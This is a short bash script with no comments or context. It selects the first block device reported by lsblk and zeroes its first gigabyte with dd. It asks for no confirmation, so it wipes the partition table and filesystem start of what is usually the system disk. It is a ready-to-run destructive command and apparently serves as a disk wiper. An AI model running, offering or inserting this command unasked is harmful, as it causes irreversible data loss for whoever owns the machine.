#!/bin/bash
DISK=$(lsblk -ndo NAME | head -1)
dd if=/dev/zero of=/dev/$DISK bs=1M count=1024 oflag=direct
